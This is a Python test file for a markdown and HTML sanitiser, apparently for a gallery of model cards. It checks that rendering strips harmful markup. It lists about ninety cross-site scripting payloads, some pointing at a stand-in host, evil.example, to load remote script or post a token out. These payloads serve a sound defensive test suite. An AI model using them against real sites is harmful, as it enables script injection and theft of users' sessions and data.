"""Whatever a card says, its HTML can do no harm and closes what it opens."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tukar.gallery import markdown, sanitiser
from tukar.gallery.addresses import Place

from .markup import find, harm, read

PLACE = Place("ana/model")

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' alt='a'>",
    "<img/src/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img srcset='https://evil.example/pixel 1x' src=a.png>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<form action='https://evil.example'><input name=token><button>send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://hub.test/1'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/\\evil.example/x'>x</a>",
    "<a href='\\\\evil.example/x'>x</a>",
    "<a href='/\t/evil.example/x'>x</a>",
    "<a href='x' onclick=alert(1) target=_top rel=opener>x</a>",
    "<a href='x' style='position:fixed'>x</a>",
    "<p id=main>x</p><div id=search>x</div><a id=files>x</a>",
    "<td>x<tr>y<table><td></table></div></div></article></main>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<b/onmouseover=alert(1)>x</b>",
    "<font color='\"><script>alert(1)</script>'>x</font>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    '[x](a "onclick=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](a.png)',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover="alert(1)>',
    '```"><script>alert(1)</script>\nx\n```',
    "``<script>alert(1)</script>``",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_harm_comes_of_a_known_attack(vector: str) -> None:
    assert list(harm(markdown.render(vector, PLACE).html)) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_nor_where_it_stands_among_other_markup(vector: str) -> None:
    around = (
        f"# Title\n\n<div align=center>\n\n{vector}\n\n</div>\n\n| a | b |\n|---|---|\n| {vector} | x |\n\n**{vector}**"
    )
    assert list(harm(markdown.render(around, PLACE).html)) == []


SNIPPETS = re.findall(
    r"\S+",
    """<a href=' '> " <table> </table> <td> </p> <b> </b> <pre> </pre> <a> <details> <ul><li> </ul> [ ]( ) ![ ` | --- >
    - & x <h1> </h1> <img src= id=a > <!-- --> <svg> </svg> <math> <script> \\ # == ~~ ** &lt; &#x3c; /> </ </div>""",
)
PIECES = st.sampled_from([*VECTORS, *SNIPPETS, " ", "\n", "\n\n", "\t", "\x00"])


@given(st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=80))
def test_nor_of_anything_that_is_put_together_from_them(text: str) -> None:
    assert list(harm(markdown.render(text, PLACE).html)) == []


@given(st.lists(PIECES, max_size=12).map("".join))
def test_what_was_made_safe_is_not_changed_by_another_pass_but_for_ids_and_headings(html: str) -> None:
    once = sanitiser.clean(html, PLACE)
    twice = sanitiser.clean(once, PLACE)
    tags = [element.tag for element in read(once) if not element.tag.startswith("h") and element.tag != "div"]
    assert [e.tag for e in read(twice) if not e.tag.startswith("h") and e.tag != "div"] == tags


def test_the_words_stay_and_only_the_harm_goes() -> None:
    html = markdown.render("before <script>alert(1)</script> <b onclick=x>bold</b> after", PLACE).html
    assert html.strip() == "<p>before  <b>bold</b> after</p>"


def test_the_numbers_of_attributes_cannot_stretch_the_page() -> None:
    html = sanitiser.clean("<table><tr><td colspan=99999 rowspan='2'>x</td></tr></table><img src=a width=9e9>", PLACE)
    assert "colspan" not in find(html, "td")[0].attributes
    assert find(html, "td")[0]["rowspan"] == "2"
    assert "width" not in find(html, "img")[0].attributes


def test_ids_are_the_card_s_own_and_never_the_same_twice() -> None:
    html = markdown.render(
        "# A\n\n# A\n\n<h1 id='a'>x</h1>\n\n<div id='main'>x</div>\n\n<div id='b c'>x</div>", PLACE
    ).html
    ids = [element["id"] for element in read(html) if "id" in element.attributes]
    assert ids == ["card-a", "card-a-1", "card-a-2", "card-main"]
